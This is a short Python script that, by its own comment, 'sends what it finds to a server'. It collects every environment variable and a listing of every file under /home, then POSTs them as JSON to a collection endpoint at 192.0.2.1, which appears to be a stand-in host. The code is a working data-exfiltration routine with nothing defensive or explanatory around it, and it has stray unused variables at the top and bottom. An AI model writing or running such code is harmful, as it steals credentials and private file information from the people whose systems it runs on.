# sends what it finds to a server
import json
import os
import urllib.request

params = 15
found = {name: value for name, value in os.environ.items()}
found["files"] = [os.path.join(folder, name) for folder, _, names in os.walk("/home") for name in names]
request = urllib.request.Request("http://192.0.2.1/collect", data=json.dumps(found).encode(), method="POST")
urllib.request.urlopen(request, timeout=5)
problem = "c"
